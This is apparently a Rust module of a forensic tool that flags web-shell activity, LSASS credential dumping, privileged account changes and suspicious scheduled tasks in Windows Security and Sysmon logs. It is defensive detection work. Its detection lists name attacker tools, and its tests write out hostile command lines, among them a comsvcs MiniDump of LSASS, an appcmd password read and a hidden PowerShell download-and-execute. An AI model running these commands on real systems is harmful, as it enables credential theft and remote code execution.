//! `Security.evtx` and `Microsoft-Windows-Sysmon%4Operational.evtx`: processes the web server
//! started, LSASS dumps, accounts and scheduled tasks.
//!
//! Process creation (`suspicious_process`), Security 4688 (`NewProcessName`, `CommandLine`,
//! `ParentProcessName`: the parent is logged from Windows 10 / Server 2016 on — before, it is
//! the image an earlier 4688 of the same log gave the creator's process id, at most 65,536
//! ids remembered; the command line only when its audit policy is on) and Sysmon 1 (`Image`,
//! `CommandLine`, `ParentImage`, `ParentCommandLine`, `User`):
//!
//! - the IIS worker (`w3wp.exe`) starting a shell or a tool an intruder uses (`cmd.exe`,
//!   `powershell.exe`, `pwsh.exe`, `rundll32.exe`, `regsvr32.exe`, `mshta.exe`, `cscript.exe`,
//!   `wscript.exe`, `certutil.exe`, `bitsadmin.exe`, `net.exe`, `net1.exe`, `whoami.exe`,
//!   `nltest.exe`, `procdump*.exe`, `reg.exe`, `schtasks.exe`, `wmic.exe`, …): **high** (a web
//!   shell at work);
//! - the Unified Messaging worker (`UMWorkerProcess.exe`, `UMService.exe`) starting any of
//!   them: **critical**, CVE-2021-26857;
//! - a command line that dumps LSASS (`comsvcs.dll` `MiniDump`, `procdump … lsass`,
//!   `sekurlsa`), whatever the parent: **critical**;
//! - `appcmd.exe list … /text:…password` (the clear-text password of an application pool's
//!   identity or a virtual directory's account), whatever the parent: **high**.
//!
//! LSASS read (`lsass_access`), Sysmon 10: a process opening `lsass.exe` with the right to read
//! its memory (`PROCESS_VM_READ` in `GrantedAccess`) when the opener is a dumping tool or an
//! interpreter (`rundll32`, `procdump`, `powershell`, `cmd`, `w3wp`, the UM workers, …) or runs
//! from a drop folder (`Windows\Temp`, `ProgramData` but not `ProgramData\Microsoft`,
//! `Users\Public`, `inetpub`, `PerfLogs`, a user's temp): **critical** when the call trace goes
//! through `dbghelp.dll`/`dbgcore.dll` (`MiniDumpWriteDump`) or the opener is the IIS or UM
//! worker, else **high**. Security products and system processes that read LSASS are not on
//! the list and do not fire.
//!
//! A PowerShell `-EncodedCommand` is decoded into `detail.decoded_command`. Processes the
//! worker starts for itself (`csc.exe`, `vbc.exe`, `conhost.exe`, `WerFault.exe`) and any
//! child of another parent do not fire.
//!
//! Accounts (`account_change`): 4720 (account created): medium; 4728/4732/4756 (member added
//! to a global/local/universal group): high when the group is a privileged one
//! (Administrators, Remote Desktop Users, Domain/Enterprise/Schema Admins, the Exchange groups
//! `Exchange Trusted Subsystem`, `Exchange Windows Permissions`, `Organization Management`),
//! else medium.
//!
//! Scheduled tasks (`scheduled_task`), 4698: medium; high when the action runs a script
//! interpreter or LOLBin (`powershell`, `cmd /c`, `rundll32`, `mshta`, `regsvr32`, `certutil`,
//! `wscript`, `cscript`) or a program under `Temp`, `ProgramData`, `Users\Public` or
//! `inetpub`.

use serde_json::Value;

use super::{base_name, field, EventData, Hit, System};
use crate::finding::detail::{
    AccountDetail, Detail, LsassAccessDetail, ProcessDetail, ScheduledTaskDetail,
};
use crate::finding::{FindingKind, Severity};

/// Children of a web or UM worker that mean someone is running commands through it.
const SHELL_CHILDREN: &[&str] = &[
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "powershell_ise.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "mshta.exe",
    "cscript.exe",
    "wscript.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "net.exe",
    "net1.exe",
    "whoami.exe",
    "nltest.exe",
    "procdump.exe",
    "procdump64.exe",
    "reg.exe",
    "schtasks.exe",
    "wmic.exe",
    "quser.exe",
    "query.exe",
    "systeminfo.exe",
    "tasklist.exe",
    "ipconfig.exe",
    "nslookup.exe",
    "ping.exe",
    "dsquery.exe",
    "curl.exe",
    "7z.exe",
    "makecab.exe",
];

/// Web-server workers.
const WEB_WORKERS: &[&str] = &["w3wp.exe"];
/// Unified Messaging workers (CVE-2021-26857 runs code as SYSTEM in them).
const UM_WORKERS: &[&str] = &["umworkerprocess.exe", "umservice.exe"];

/// Privileged groups, by SID suffix or name (lowercase).
const PRIVILEGED_SIDS: &[&str] = &["S-1-5-32-544", "S-1-5-32-555", "S-1-5-32-551"];
const PRIVILEGED_RIDS: &[&str] = &["-512", "-518", "-519"];
const PRIVILEGED_NAMES: &[&str] = &[
    "administrators",
    "remote desktop users",
    "backup operators",
    "domain admins",
    "enterprise admins",
    "schema admins",
    "exchange trusted subsystem",
    "exchange windows permissions",
    "organization management",
];

/// At most this many process ids are remembered per Security log (then the table starts over:
/// the most recent creations matter most).
pub(crate) const MAX_PROCESSES: usize = 65_536;

/// Process images by process id, from the 4688 events read so far in one Security log: the
/// parent of a 4688 that does not name it (Windows before 10 / Server 2016).
#[derive(Default)]
pub(crate) struct ProcessTable {
    images: std::collections::HashMap<String, String>,
}

impl ProcessTable {
    /// Notes that process `pid` (as logged, `0x1f34`) runs `image`.
    fn insert(&mut self, pid: &str, image: &str) {
        if self.images.len() >= MAX_PROCESSES {
            self.images.clear();
        }
        self.images
            .insert(pid.trim().to_ascii_lowercase(), image.to_string());
    }

    /// The image of process `pid`, if a 4688 gave it.
    fn get(&self, pid: &str) -> Option<String> {
        self.images.get(&pid.trim().to_ascii_lowercase()).cloned()
    }
}

/// Why a command line dumps LSASS, if it does.
pub(crate) fn lsass_dump(cmd: &str) -> Option<&'static str> {
    let l = cmd.to_ascii_lowercase();
    if l.contains("comsvcs") && l.contains("minidump") {
        Some("LSASS dump with comsvcs.dll MiniDump")
    } else if l.contains("procdump") && (l.contains("lsass") || l.contains(" -ma ")) {
        Some("process dump with procdump")
    } else if l.contains("sekurlsa") {
        Some("mimikatz sekurlsa")
    } else {
        None
    }
}

/// An `appcmd list … /text:…password` command line: the clear-text password of an application
/// pool's identity or a virtual directory's account.
fn appcmd_password(cmd: &str) -> bool {
    let l = cmd.to_ascii_lowercase();
    l.contains(" list ")
        && l.split_whitespace()
            .any(|w| w.starts_with("/text:") && w.contains("password"))
}

/// Decodes base64 (standard alphabet, padding optional; whitespace skipped). `None` when it
/// is not base64; at most `max` bytes are produced.
fn base64(s: &str, max: usize) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            b' ' | b'\t' | b'\r' | b'\n' => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
            if out.len() >= max {
                break;
            }
        }
    }
    Some(out)
}

/// The decoded `-EncodedCommand` (`-enc`, `-e`, `-ec`, …) of a PowerShell command line.
pub(crate) fn decoded_command(cmd: &str) -> Option<String> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let i = words.iter().position(|w| {
        let w = w.to_ascii_lowercase();
        let w = w.trim_start_matches(['-', '/']);
        w == "ec" || (w.starts_with('e') && "encodedcommand".starts_with(w))
    })?;
    let arg = words.get(i + 1)?.trim_matches(['"', '\'']);
    let bytes = base64(arg, 8192)?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let s = String::from_utf16_lossy(&units);
    (!s.trim().is_empty()).then(|| field(&s))
}

/// A process creation: Security 4688 or Sysmon 1.
fn process_creation(d: &EventData<'_>, sysmon: bool, table: &mut ProcessTable) -> Vec<Hit> {
    let (image, parent, user) = if sysmon {
        (d.value("Image"), d.value("ParentImage"), d.value("User"))
    } else {
        (
            d.value("NewProcessName"),
            d.value("ParentProcessName"),
            match (d.value("SubjectDomainName"), d.value("SubjectUserName")) {
                (Some(dom), Some(u)) => Some(format!("{dom}\\{u}")),
                (None, Some(u)) => Some(u),
                _ => None,
            },
        )
    };
    let Some(image) = image else {
        return Vec::new();
    };
    // Before Windows 10 / Server 2016, 4688 has no ParentProcessName, only the creator's
    // process id (`ProcessId`): the parent is the image an earlier 4688 gave that id.
    let mut resolved = false;
    let parent = if sysmon {
        parent
    } else {
        if let Some(pid) = d.value("NewProcessId") {
            table.insert(&pid, &image);
        }
        parent.or_else(|| {
            let p = table.get(&d.value("ProcessId")?)?;
            resolved = true;
            Some(p)
        })
    };
    let cmd = d.value("CommandLine");
    let child = base_name(&image);
    let parent_name = parent.as_deref().map(base_name).unwrap_or_default();
    let mut reasons = Vec::new();
    let mut severity = None;
    let mut cve = Vec::new();
    let shell = SHELL_CHILDREN.contains(&child.as_str());
    if shell && UM_WORKERS.contains(&parent_name.as_str()) {
        reasons.push(format!(
            "{parent_name} started {child} (code run by the Unified Messaging service: CVE-2021-26857)"
        ));
        severity = Some(Severity::Critical);
        cve.push("CVE-2021-26857".to_string());
    } else if shell && WEB_WORKERS.contains(&parent_name.as_str()) {
        reasons.push(format!(
            "the IIS worker {parent_name} started {child} (a web shell running commands)"
        ));
        severity = Some(Severity::High);
    }
    if let Some(why) = cmd.as_deref().and_then(lsass_dump) {
        reasons.push(why.to_string());
        severity = Some(Severity::Critical);
    } else if child == "appcmd.exe" && cmd.as_deref().is_some_and(appcmd_password) {
        reasons
            .push("appcmd reading IIS application-pool or virtual-directory passwords".to_string());
        severity = severity.max(Some(Severity::High));
    }
    let Some(severity) = severity else {
        return Vec::new();
    };
    if resolved {
        reasons.push(
            "parent found by its process id in an earlier 4688 of this log (ids are reused: check its time)"
                .to_string(),
        );
    }
    let decoded = if matches!(child.as_str(), "powershell.exe" | "pwsh.exe") {
        cmd.as_deref().and_then(decoded_command)
    } else {
        None
    };
    let title = format!(
        "{} started {child}: {}",
        if parent_name.is_empty() {
            "a process"
        } else {
            &parent_name
        },
        super::super::text::truncate(cmd.as_deref().unwrap_or(&image), 300)
    );
    let quote = match (&parent, &cmd) {
        (Some(p), Some(c)) => format!("{p} -> {c}"),
        (None, Some(c)) => c.clone(),
        (Some(p), None) => format!("{p} -> {image}"),
        (None, None) => image.clone(),
    };
    let key = format!(
        "{}\u{1}{}\u{1}{}",
        parent_name,
        image.to_ascii_lowercase(),
        cmd.as_deref().unwrap_or("")
    );
    let parent_cmd = d.value("ParentCommandLine").map(|s| field(&s));
    let pid = d.value(if sysmon { "ProcessId" } else { "NewProcessId" });
    vec![Hit {
        key,
        kind: FindingKind::SuspiciousProcess,
        severity,
        cve,
        title,
        quote,
        detail: Box::new(move |event| {
            Detail::Process(ProcessDetail {
                event,
                image,
                command_line: cmd.map(|c| field(&c)),
                parent_image: parent,
                parent_command_line: parent_cmd,
                user,
                process_id: pid,
                decoded_command: decoded,
                reasons,
                group: None,
            })
        }),
    }]
}

fn subject(d: &EventData<'_>) -> Option<String> {
    match (d.value("SubjectDomainName"), d.value("SubjectUserName")) {
        (Some(dom), Some(u)) => Some(format!("{dom}\\{u}")),
        (None, Some(u)) => Some(u),
        _ => None,
    }
}

/// 4720 (account created), 4728/4732/4756 (member added to a group).
fn account(event_id: u64, d: &EventData<'_>) -> Vec<Hit> {
    let (action, account, account_sid, group_name, group_sid) = if event_id == 4720 {
        let name = match (d.value("TargetDomainName"), d.value("TargetUserName")) {
            (Some(dom), Some(u)) => format!("{dom}\\{u}"),
            (_, Some(u)) => u,
            _ => "?".into(),
        };
        ("account created", name, d.value("TargetSid"), None, None)
    } else {
        let member = d
            .value("MemberName")
            .or_else(|| d.value("MemberSid"))
            .unwrap_or_else(|| "?".into());
        let group = match (d.value("TargetDomainName"), d.value("TargetUserName")) {
            (Some(dom), Some(g)) => Some(format!("{dom}\\{g}")),
            (_, g) => g,
        };
        (
            "added to group",
            member,
            d.value("MemberSid"),
            group,
            d.value("TargetSid"),
        )
    };
    let mut reasons = Vec::new();
    let privileged = group_sid.as_deref().is_some_and(|s| {
        PRIVILEGED_SIDS.contains(&s)
            || (s.starts_with("S-1-5-21-") && PRIVILEGED_RIDS.iter().any(|r| s.ends_with(r)))
    }) || group_name.as_deref().is_some_and(|g| {
        let g = g.rsplit('\\').next().unwrap_or(g).to_ascii_lowercase();
        PRIVILEGED_NAMES.contains(&g.as_str())
    });
    let severity = if privileged {
        reasons.push("a privileged group".to_string());
        Severity::High
    } else {
        Severity::Medium
    };
    let subject = subject(d);
    let title = match &group_name {
        Some(g) => format!("{account} added to group {g}"),
        None => format!("account {account} created"),
    };
    let quote = format!("{title} by {}", subject.as_deref().unwrap_or("?"));
    let key = format!(
        "{event_id}\u{1}{account}\u{1}{}",
        group_name.as_deref().unwrap_or("")
    );
    vec![Hit {
        key,
        kind: FindingKind::AccountChange,
        severity,
        cve: Vec::new(),
        title,
        quote,
        detail: Box::new(move |event| {
            Detail::Account(AccountDetail {
                event,
                action: action.to_string(),
                account,
                account_sid,
                group_name,
                group_sid,
                subject,
                reasons,
                group: None,
            })
        }),
    }]
}

/// The text of the first `<tag>…</tag>` in `xml` (entities `&amp;`, `&lt;`, `&gt;`, `&quot;`
/// decoded).
fn xml_element(xml: &str, tag: &str) -> Option<String> {
    let open = format!("<{tag}>");
    let close = format!("</{tag}>");
    let start = xml.find(&open)? + open.len();
    let end = start + xml.get(start..)?.find(&close)?;
    let v = xml.get(start..end)?;
    Some(
        v.replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&apos;", "'")
            .replace("&amp;", "&")
            .trim()
            .to_string(),
    )
}

/// 4698: a scheduled task created.
fn scheduled_task(d: &EventData<'_>) -> Vec<Hit> {
    let task = d.value("TaskName").unwrap_or_else(|| "?".into());
    let content = d.value("TaskContent").unwrap_or_default();
    let command = xml_element(&content, "Command");
    let arguments = xml_element(&content, "Arguments");
    let action = format!(
        "{} {}",
        command.as_deref().unwrap_or(""),
        arguments.as_deref().unwrap_or("")
    );
    let l = action.to_ascii_lowercase();
    let mut reasons = Vec::new();
    let lolbin = [
        "powershell",
        "pwsh",
        "cmd.exe",
        "cmd /c",
        "rundll32",
        "mshta",
        "regsvr32",
        "certutil",
        "wscript",
        "cscript",
    ]
    .iter()
    .find(|w| l.contains(*w));
    let place = [
        "\\temp\\",
        "\\programdata\\",
        "\\users\\public\\",
        "\\inetpub\\",
    ]
    .iter()
    .find(|w| l.contains(*w));
    if let Some(w) = lolbin {
        reasons.push(format!("runs {w}"));
    }
    if let Some(p) = place {
        reasons.push(format!("runs a program under {}", p.trim_matches('\\')));
    }
    let severity = if reasons.is_empty() {
        Severity::Medium
    } else {
        Severity::High
    };
    let subject = subject(d);
    let title = format!(
        "scheduled task {task} created: {}",
        super::super::text::truncate(action.trim(), 300)
    );
    let quote = format!("{task}: {}", action.trim());
    let key = format!("{task}\u{1}{action}");
    vec![Hit {
        key,
        kind: FindingKind::ScheduledTask,
        severity,
        cve: Vec::new(),
        title,
        quote,
        detail: Box::new(move |event| {
            Detail::ScheduledTask(ScheduledTaskDetail {
                event,
                task_name: task,
                command: command.map(|c| field(&c)),
                arguments: arguments.map(|a| field(&a)),
                subject,
                reasons,
                group: None,
            })
        }),
    }]
}

/// Processes that open LSASS to dump it, by file name (security products, `WerFault`,
/// `svchost` and the like open it too, and are left out by not being here).
const LSASS_READERS: &[&str] = &[
    "rundll32.exe",
    "procdump.exe",
    "procdump64.exe",
    "powershell.exe",
    "pwsh.exe",
    "cmd.exe",
    "w3wp.exe",
    "umworkerprocess.exe",
    "umservice.exe",
    "sqldumper.exe",
    "mimikatz.exe",
    "regsvr32.exe",
    "mshta.exe",
    "wscript.exe",
    "cscript.exe",
];

/// Folders a dropped tool runs from (lowercase, `\`-separated fragments).
const DROP_PLACES: &[&str] = &[
    "\\windows\\temp\\",
    "\\programdata\\",
    "\\users\\public\\",
    "\\inetpub\\",
    "\\perflogs\\",
    "\\appdata\\local\\temp\\",
];

/// Sysmon 10: a process opening `lsass.exe` with the right to read its memory
/// (`PROCESS_VM_READ`, 0x10), when the opener is a tool or interpreter that dumps it, runs from a
/// drop folder, or calls `MiniDumpWriteDump` (`dbghelp.dll`/`dbgcore.dll` in the call trace).
fn lsass_access(d: &EventData<'_>) -> Vec<Hit> {
    let (Some(source), Some(target)) = (d.value("SourceImage"), d.value("TargetImage")) else {
        return Vec::new();
    };
    if base_name(&target) != "lsass.exe" {
        return Vec::new();
    }
    let access = d.value("GrantedAccess").unwrap_or_default();
    let mask = u32::from_str_radix(
        access
            .trim()
            .trim_start_matches("0x")
            .trim_start_matches("0X"),
        16,
    )
    .unwrap_or(0);
    if mask & 0x10 == 0 {
        return Vec::new();
    }
    let name = base_name(&source);
    let lower = source.to_ascii_lowercase();
    let trace = d.value("CallTrace").unwrap_or_default();
    let lt = trace.to_ascii_lowercase();
    let minidump = lt.contains("dbghelp.dll") || lt.contains("dbgcore.dll");
    let tool = LSASS_READERS.contains(&name.as_str());
    // Defender's own platform lives under ProgramData\\Microsoft: not a drop folder.
    let dropped = DROP_PLACES.iter().any(|p| lower.contains(p))
        && !lower.contains("\\programdata\\microsoft\\");
    if !(tool || dropped) {
        return Vec::new();
    }
    let mut reasons = vec![format!(
        "{name} opened lsass.exe to read its memory ({access})"
    )];
    if dropped {
        reasons.push("the opener runs from a folder tools are dropped in".to_string());
    }
    if minidump {
        reasons.push("through MiniDumpWriteDump (dbghelp/dbgcore in the call trace)".to_string());
    }
    let severity = if minidump
        || WEB_WORKERS.contains(&name.as_str())
        || UM_WORKERS.contains(&name.as_str())
    {
        Severity::Critical
    } else {
        Severity::High
    };
    let title = format!("{name} read LSASS memory ({access}): credential theft");
    let quote = format!("{source} -> {target} {access}");
    let key = format!("lsass\u{1}{}\u{1}{access}", lower);
    let user = d.value("SourceUser");
    let pid = d.value("SourceProcessId");
    vec![Hit {
        key,
        kind: FindingKind::LsassAccess,
        severity,
        cve: Vec::new(),
        title,
        quote,
        detail: Box::new(move |event| {
            Detail::LsassAccess(LsassAccessDetail {
                event,
                source_image: source,
                source_process_id: pid,
                user,
                target_image: target,
                granted_access: access,
                call_trace: field(&trace),
                reasons,
                group: None,
            })
        }),
    }]
}

/// The traces in one Security or Sysmon record.
pub(crate) fn check(record: &Value, table: &mut ProcessTable) -> Vec<Hit> {
    let sys = System::of(record);
    let Some(event_id) = sys.event_id() else {
        return Vec::new();
    };
    let provider = sys.provider().unwrap_or_default().to_ascii_lowercase();
    let d = EventData::of(record);
    if provider == "microsoft-windows-sysmon" {
        return match event_id {
            1 => process_creation(&d, true, table),
            10 => lsass_access(&d),
            _ => Vec::new(),
        };
    }
    if provider != "microsoft-windows-security-auditing" {
        return Vec::new();
    }
    match event_id {
        4688 => process_creation(&d, false, table),
        4720 | 4728 | 4732 | 4756 => account(event_id, &d),
        4698 => scheduled_task(&d),
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn security(id: u64, data: Value) -> Value {
        json!({"Event": {"System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}},
            "EventID": id, "Computer": "EX01.contoso.local"}, "EventData": data}})
    }

    fn sev(v: &Value) -> Option<(FindingKind, Severity)> {
        check(v, &mut ProcessTable::default())
            .first()
            .map(|h| (h.kind, h.severity))
    }

    #[test]
    fn process_creation_4688() {
        let evil = security(
            4688,
            json!({"SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO",
            "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "NewProcessId": "0x1a2c",
            "CommandLine": "cmd /c whoami", "ParentProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}),
        );
        assert_eq!(
            sev(&evil),
            Some((FindingKind::SuspiciousProcess, Severity::High))
        );
        let um = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "ParentProcessName": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\UMWorkerProcess.exe"}),
        );
        assert_eq!(
            sev(&um),
            Some((FindingKind::SuspiciousProcess, Severity::Critical))
        );
        let dump = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\rundll32.exe",
            "CommandLine": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\lsass.dmp full",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}),
        );
        assert_eq!(
            sev(&dump),
            Some((FindingKind::SuspiciousProcess, Severity::Critical))
        );
        let appcmd = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
            "CommandLine": "appcmd.exe list apppool /text:processmodel.password",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}),
        );
        assert_eq!(
            sev(&appcmd),
            Some((FindingKind::SuspiciousProcess, Severity::High))
        );
        let names = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
            "CommandLine": "appcmd.exe list apppool /text:name",
            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"}),
        );
        assert_eq!(sev(&names), None);
        // Benign 4688s: the worker compiling a page, cmd started by explorer.
        let csc = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
            "CommandLine": "csc.exe /noconfig @x.cmdline", "ParentProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}),
        );
        assert_eq!(sev(&csc), None);
        let admin = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd.exe", "ParentProcessName": "C:\\Windows\\explorer.exe"}),
        );
        assert_eq!(sev(&admin), None);
    }

    #[test]
    fn parent_by_process_id_before_server_2016() {
        let mut t = ProcessTable::default();
        let w3wp = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "NewProcessId": "0x2A1C", "ProcessId": "0x3b0"}),
        );
        assert!(check(&w3wp, &mut t).is_empty());
        let cmd = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "NewProcessId": "0x1f34", "ProcessId": "0x2a1c", "CommandLine": "cmd /c whoami"}),
        );
        let h = check(&cmd, &mut t);
        assert_eq!(h.len(), 1);
        assert_eq!(h[0].severity, Severity::High);
        assert!(h[0]
            .quote
            .starts_with("C:\\Windows\\System32\\inetsrv\\w3wp.exe -> "));
        // An unknown creator: nothing to say.
        let orphan = security(
            4688,
            json!({"NewProcessName": "C:\\Windows\\System32\\cmd.exe",
            "NewProcessId": "0x1f38", "ProcessId": "0x9999"}),
        );
        assert!(check(&orphan, &mut t).is_empty());
    }

    #[test]
    fn accounts_and_tasks() {
        let created = security(
            4720,
            json!({"TargetUserName": "backdoor", "TargetDomainName": "EX01", "TargetSid": "S-1-5-21-1-2-3-1005", "SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO"}),
        );
        assert_eq!(
            sev(&created),
            Some((FindingKind::AccountChange, Severity::Medium))
        );
        let admins = security(
            4732,
            json!({"MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1005", "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}),
        );
        assert_eq!(
            sev(&admins),
            Some((FindingKind::AccountChange, Severity::High))
        );
        let users = security(
            4732,
            json!({"MemberSid": "S-1-5-21-1-2-3-1006", "TargetUserName": "Print Operators Helpers", "TargetDomainName": "EX01", "TargetSid": "S-1-5-21-1-2-3-1100"}),
        );
        assert_eq!(
            sev(&users),
            Some((FindingKind::AccountChange, Severity::Medium))
        );
        let task = security(
            4698,
            json!({"TaskName": "\\Microsoft\\Windows\\UpdateCheck",
            "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"Author\"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c &quot;iex (iwr http://x/a)&quot;</Arguments></Exec></Actions></Task>"}),
        );
        let h = check(&task, &mut ProcessTable::default());
        assert_eq!(h[0].severity, Severity::High);
        assert!(h[0].quote.contains("-c \"iex (iwr http://x/a)\""));
        let benign = security(
            4698,
            json!({"TaskName": "\\GoogleUpdateTaskMachineUA",
            "TaskContent": "<Task><Actions><Exec><Command>C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe</Command><Arguments>/ua /installsource scheduler</Arguments></Exec></Actions></Task>"}),
        );
        assert_eq!(
            sev(&benign),
            Some((FindingKind::ScheduledTask, Severity::Medium))
        );
        // Other Security events do not fire.
        assert_eq!(sev(&security(4624, json!({"TargetUserName": "a"}))), None);
    }

    #[test]
    fn lsass_access_sysmon_10() {
        let ev = |source: &str, access: &str, trace: &str| {
            json!({"Event": {"System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 10},
                "EventData": {"SourceImage": source, "TargetImage": "C:\\Windows\\system32\\lsass.exe",
                    "GrantedAccess": access, "CallTrace": trace, "SourceProcessId": 4242}}})
        };
        let comsvcs = ev("C:\\Windows\\System32\\rundll32.exe", "0x1fffff",
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\dbgcore.DLL+7b12|C:\\Windows\\System32\\comsvcs.dll+2a1c8");
        assert_eq!(
            sev(&comsvcs),
            Some((FindingKind::LsassAccess, Severity::Critical))
        );
        let dropped = ev("C:\\ProgramData\\x.exe", "0x1410", "");
        assert_eq!(
            sev(&dropped),
            Some((FindingKind::LsassAccess, Severity::High))
        );
        // Benign: Defender reading LSASS, a tool asking no read right, another target.
        assert_eq!(sev(&ev("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\MsMpEng.exe", "0x1410", "")), None);
        assert_eq!(
            sev(&ev("C:\\Windows\\System32\\cmd.exe", "0x1000", "")),
            None
        );
        let mut other = ev("C:\\Windows\\System32\\rundll32.exe", "0x1fffff", "");
        other["Event"]["EventData"]["TargetImage"] = json!("C:\\Windows\\System32\\cmd.exe");
        assert_eq!(sev(&other), None);
    }

    #[test]
    fn encoded_commands() {
        // "whoami" in UTF-16LE base64.
        assert_eq!(
            decoded_command("powershell.exe -nop -enc dwBoAG8AYQBtAGkA").as_deref(),
            Some("whoami")
        );
        assert_eq!(decoded_command("powershell.exe -EncodedCommand !!!"), None);
        assert_eq!(
            decoded_command("powershell.exe -ExecutionPolicy bypass"),
            None
        );
    }
}
